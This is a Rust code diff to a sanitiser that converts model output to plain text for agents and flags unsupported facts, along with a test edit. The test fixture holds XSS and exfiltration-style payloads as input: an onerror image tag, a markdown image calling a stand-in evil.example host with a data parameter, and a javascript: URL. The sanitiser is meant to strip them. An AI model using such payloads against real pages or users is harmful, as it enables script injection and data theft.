@@ -214,7 +214,9 @@ pub fn for_agents(text: &str, source: &str) -> (String, Vec<String>) {
         lines.push(words.map(plain).collect::<Vec<_>>().join(" "));
     }
     let text = lines.join("\n").trim().to_owned();
-    let strange = facts(&text).into_iter().filter(|f| !known.contains(f)).collect();
+    // A currency's sign alone says nothing to look up.
+    let is_named = |fact: &String| fact.chars().any(char::is_alphanumeric);
+    let strange = facts(&text).into_iter().filter(|f| !known.contains(f) && is_named(f)).collect();
     (text, strange)
 }
 
@@ -337,7 +339,7 @@ mod tests {
     fn t64_an_agent_reads_plain_text_and_learns_what_rests_on_nothing() {
         let source = "Livraison 4,90 €, voir https://shop.example/livraison";
         let model = "Bonjour,\n<img src=x onerror=alert(1)> ![x](http://evil.example/?d=1) \
-                     javascript:alert(1)//www.evil.example la livraison est à 3,00 € : \
+                     javascript:alert(1)//www.evil.example la livraison est à 3,00 $ : \
                      https://shop.example/livraison";
         let (text, strange) = for_agents(model, source);
         assert!(!text.contains("evil") && !text.contains('<'), "{text}");
